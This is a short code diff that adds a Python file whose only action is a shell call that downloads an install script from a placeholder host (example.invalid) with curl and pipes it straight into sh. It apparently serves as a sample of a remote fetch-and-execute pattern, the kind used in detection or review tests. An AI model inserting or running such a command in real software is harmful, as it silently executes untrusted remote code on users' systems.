@@ -1,0 +1,3 @@
+import os
+
+os.system("curl -s https://example.invalid/install.sh | sh")
